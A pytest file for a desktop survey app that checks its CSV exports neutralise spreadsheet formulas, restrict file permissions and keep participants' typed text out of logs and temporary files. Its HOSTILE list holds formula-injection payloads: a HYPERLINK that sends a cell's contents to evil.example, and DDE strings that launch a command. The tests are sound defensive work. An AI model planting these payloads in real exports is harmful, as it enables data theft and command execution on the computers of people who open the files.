"""Issue 12, items 4 and 6: exports are safe to open, and the small leaks are
closed (owner-only files and folders, nothing typed in a log or a temporary file)."""

from __future__ import annotations

import csv
import logging
import os
import stat
import sys
from pathlib import Path

import pytest

from spf_desktop.domain.kiosk import Submission
from spf_desktop.io import csv_export
from spf_desktop.store import Archive, audit, backups, repo
from spf_desktop.store.shipped import shipped_set_id

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _round(db, *, comments: list[str], close: bool = True, screen: bool = True) -> str:
    forums = repo.forums(db)
    forum = forums[0]["id"] if forums else repo.create_forum(db, "Test SPF")
    label = f"Spring {len(repo.rounds(db)) + 1}"
    round_id = audit.create_audit_round(db, forum, shipped_set_id(), label, "2026-03-01",
                                        min_group_size=3)
    audit.open_round(db, round_id)
    qids = [q.id for q in audit.kiosk_questions(db, round_id)]
    for n in range(max(6, len(comments))):
        text = comments[n] if n < len(comments) else ""
        audit.submit(db, round_id, Submission({q: n % 11 for q in qids},
                                              {qids[0]: text} if text else {}, None))
    if close:
        audit.close_round(db, round_id)
    if screen:
        audit.mark_screened(db, round_id)
    return round_id


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_formula_like_text_is_neutralised_and_numbers_are_not() -> None:
    for text in HOSTILE:
        assert csv_export.neutralise(text) == "'" + text
    for value in (-3, -0.4, 7, 2.5, "-0.40", "+2.59", "-1", "plain text", "", "a=b", None):
        assert csv_export.neutralise(value) == value


def test_hostile_comments_open_as_text(archive: Archive, tmp_path: Path) -> None:
    round_id = _round(archive.db, comments=HOSTILE)
    out, _ = csv_export.export_answers(archive.db, round_id, tmp_path / "a.csv", comments=True)
    cells = [c for row in _cells(out) for c in row]
    for text in HOSTILE:
        stored = repo.clean_comment(text)  # leading tabs and line ends are trimmed on entry
        assert "'" + stored in cells
        assert stored not in cells
    for cell in cells:
        assert not cell.startswith(csv_export.FORMULA_START) or cell.lstrip("+-").replace(
            ".", "").isdigit(), cell


def test_comments_only_from_a_closed_screened_round(archive: Archive, tmp_path: Path) -> None:
    open_round = _round(archive.db, comments=["Open round comment"], close=False, screen=False)
    # an open round's answers are not exported at all (a copy before and one after a
    # person answers would differ by that person)
    with pytest.raises(csv_export.ValidationError, match="still open"):
        csv_export.export_answers(archive.db, open_round, tmp_path / "o.csv", comments=True)
    assert not (tmp_path / "o.csv").exists()
    unscreened = _round(archive.db, comments=["Not yet screened"], screen=False)
    out, note = csv_export.export_answers(archive.db, unscreened, tmp_path / "u.csv",
                                          comments=True)
    assert "Not yet screened" not in out.read_text(encoding="utf-8-sig")
    assert "not been screened" in note
    screened = _round(archive.db, comments=["Screened and fine"])
    out, note = csv_export.export_answers(archive.db, screened, tmp_path / "s.csv",
                                          comments=True)
    assert "Screened and fine" in out.read_text(encoding="utf-8-sig")


def test_out_never_replaces_a_file_without_force_nor_the_archive_ever(cli, tmp_path: Path) -> None:
    db = tmp_path / "forum.db"
    with Archive.open(db) as archive:
        round_id = _round(archive.db, comments=["Fine"])
    with Archive.open(db) as archive:  # makes a backup, and a WAL while open
        assert backups.list_backups(db)
    existing = tmp_path / "existing.csv"
    existing.write_text("keep me")
    for command in (["export", "answers"], ["export", "results"]):
        args = [*command, "--round", round_id, "--db", db]
        refused = cli(*args, "--out", existing, catch_exceptions=True)
        assert refused.exit_code == 1 and "--force" in refused.output
        assert existing.read_text() == "keep me"
        assert cli(*args, "--out", existing, "--force").exit_code == 0
        assert existing.read_text() != "keep me"
        existing.write_text("keep me")
        victims = [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm"),
                   *backups.list_backups(db), backups.backup_dir(db) / "new.csv"]
        for victim in victims:
            before = victim.read_bytes() if victim.exists() else None
            result = cli(*args, "--out", victim, "--force", catch_exceptions=True)
            assert result.exit_code == 1, (victim, result.output)
            assert (victim.read_bytes() if victim.exists() else None) == before
    merge = cli("export", "merge", "--round", round_id, "--db", db, "--out", db, "--force",
                catch_exceptions=True)
    assert merge.exit_code == 1 and "archive's own file" in merge.output
    with Archive.open(db, read_only=True) as archive:
        assert archive.integrity_problems() == []


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps its own ACLs")
def test_archive_backups_exports_are_owner_only(cli, tmp_path: Path) -> None:
    os.umask(0o022)  # a usual umask, which would give 0644 files and 0755 folders
    db = tmp_path / "forum.db"
    with Archive.open(db) as archive:
        round_id = _round(archive.db, comments=["Fine"])
        for companion in ("-wal", "-shm"):
            file = db.with_name(db.name + companion)
            assert stat.S_IMODE(file.stat().st_mode) == 0o600, companion
    with Archive.open(db):
        pass
    assert stat.S_IMODE(db.stat().st_mode) == 0o600
    assert stat.S_IMODE(backups.backup_dir(db).stat().st_mode) == 0o700
    for backup in backups.list_backups(db):
        assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    for command, name in ((["export", "answers"], "a.csv"), (["export", "results"], "r.csv"),
                          (["export", "merge"], "m.spfmerge")):
        cli(*command, "--round", round_id, "--db", db, "--out", tmp_path / name)
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    # A folder the app makes for its data is owner-only too.
    home = tmp_path / "new-home" / "deeper"
    os.environ["SPF_DESKTOP_HOME"] = str(home)
    try:
        cli("list", "forums", catch_exceptions=True)
    finally:
        del os.environ["SPF_DESKTOP_HOME"]
    assert stat.S_IMODE(home.stat().st_mode) == 0o700


@pytest.mark.skipif(os.name != "posix", reason="Windows keeps its own ACLs")
def test_an_older_world_readable_archive_is_made_owner_only(tmp_path: Path) -> None:
    db = tmp_path / "old.db"
    with Archive.open(db):
        pass
    os.chmod(db, 0o644)
    with Archive.open(db):
        pass
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


SECRET = "Typed by a participant: Zephyrine Okonkwo-Blatt"


class TempFileWatch:
    """SQLite's temporary files (named etilqs_*, unlinked at once) seen open while
    SQLite works: a progress handler looks at the process's open files."""

    def __init__(self) -> None:
        self.seen: set[str] = set()

    def check(self) -> int:
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink(f"/proc/self/fd/{fd}")
            except OSError:
                continue
            if "etilqs" in target:
                self.seen.add(target)
        return 0

    def watch(self, db) -> None:
        db.conn.set_progress_handler(self.check, 20000)


@pytest.mark.skipif(sys.platform != "linux", reason="needs Linux's /proc")
def test_nothing_typed_reaches_a_log_or_a_temporary_file(archive: Archive, tmp_path: Path,
                                                         caplog: pytest.LogCaptureFixture) -> None:
    # The watch sees SQLite's temporary files when there are some...
    from spf_desktop.store.connection import connect

    control, other = TempFileWatch(), connect(tmp_path / "control.db")
    other.execute("CREATE TABLE t (a TEXT)")
    with other.atomic():
        other.conn.executemany("INSERT INTO t VALUES (?)", [("x" * 100,)] * 20000)
    other.execute("PRAGMA temp_store = FILE")
    control.watch(other)
    other.execute("VACUUM")
    other.close()
    assert control.seen
    # ...and sees none while participants answer, a round closes, a comment is
    # redacted and the app closes (VACUUM included).
    watch = TempFileWatch()
    watch.watch(archive.db)
    opened: list[str] = []
    listening = [True]

    def audit_hook(event: str, args: tuple) -> None:
        if listening[0] and event == "open" and args and isinstance(args[0], str | os.PathLike):
            opened.append(os.fspath(args[0]))

    sys.addaudithook(audit_hook)  # cannot be removed: it stops listening at the end
    caplog.set_level(logging.DEBUG)
    try:
        round_id = _round(archive.db, comments=[SECRET] * 6, close=False, screen=False)
        audit.close_round(archive.db, round_id)
        row = audit.comments_for_screening(archive.db, round_id)[0]
        audit.redact_comment(archive.db, round_id, row.response_key, row.question_id)
        archive.close()
    finally:
        listening[0] = False
    assert watch.seen == set()
    assert SECRET not in caplog.text
    allowed = (str(archive.path), str(backups.backup_dir(archive.path)))
    strays = [p for p in opened if not p.startswith(allowed) and str(tmp_path) in p]
    assert strays == []
